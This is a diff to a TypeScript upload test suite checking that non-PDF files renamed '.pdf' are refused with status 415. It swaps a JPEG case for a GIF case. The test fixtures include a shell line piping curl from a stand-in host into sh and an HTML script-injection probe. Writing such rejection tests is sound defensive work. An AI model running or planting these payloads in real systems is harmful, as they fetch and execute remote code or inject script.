@@ -121,7 +121,8 @@ describe('accepted uploads', () => {
 
 describe('refused uploads store nothing', () => {
   const cases: { title: string; type: string; file?: { bytes: Buffer; name: string }; status: number; message: string }[] = [
-    { title: 'a JPEG renamed .pdf', type: 'birth_certificate', file: { bytes: SAMPLE_JPEG, name: 'birth.pdf' }, status: 415, message: 'Please upload PDF File.' },
+    // A photo (JPEG, PNG, WebP) is now taken by a document slot too (test/api/photo-uploads.e2e-spec.ts); a GIF is not.
+    { title: 'a GIF renamed .pdf', type: 'birth_certificate', file: { bytes: Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'), name: 'birth.pdf' }, status: 415, message: 'Please upload PDF File.' },
     { title: 'a script renamed .pdf', type: 'immunization_card', file: { bytes: Buffer.from('#!/bin/sh\ncurl http://x | sh\n'), name: 'card.pdf' }, status: 415, message: 'Please upload PDF File.' },
     { title: 'HTML renamed .pdf', type: 'sea_slip', file: { bytes: Buffer.from('<html><script>alert(1)</script>%PDF-1.4'), name: 'sea.pdf' }, status: 415, message: 'Please upload PDF File.' },
     { title: 'an empty file', type: 'birth_certificate', file: { bytes: Buffer.alloc(0), name: 'empty.pdf' }, status: 415, message: 'Please upload PDF File.' },
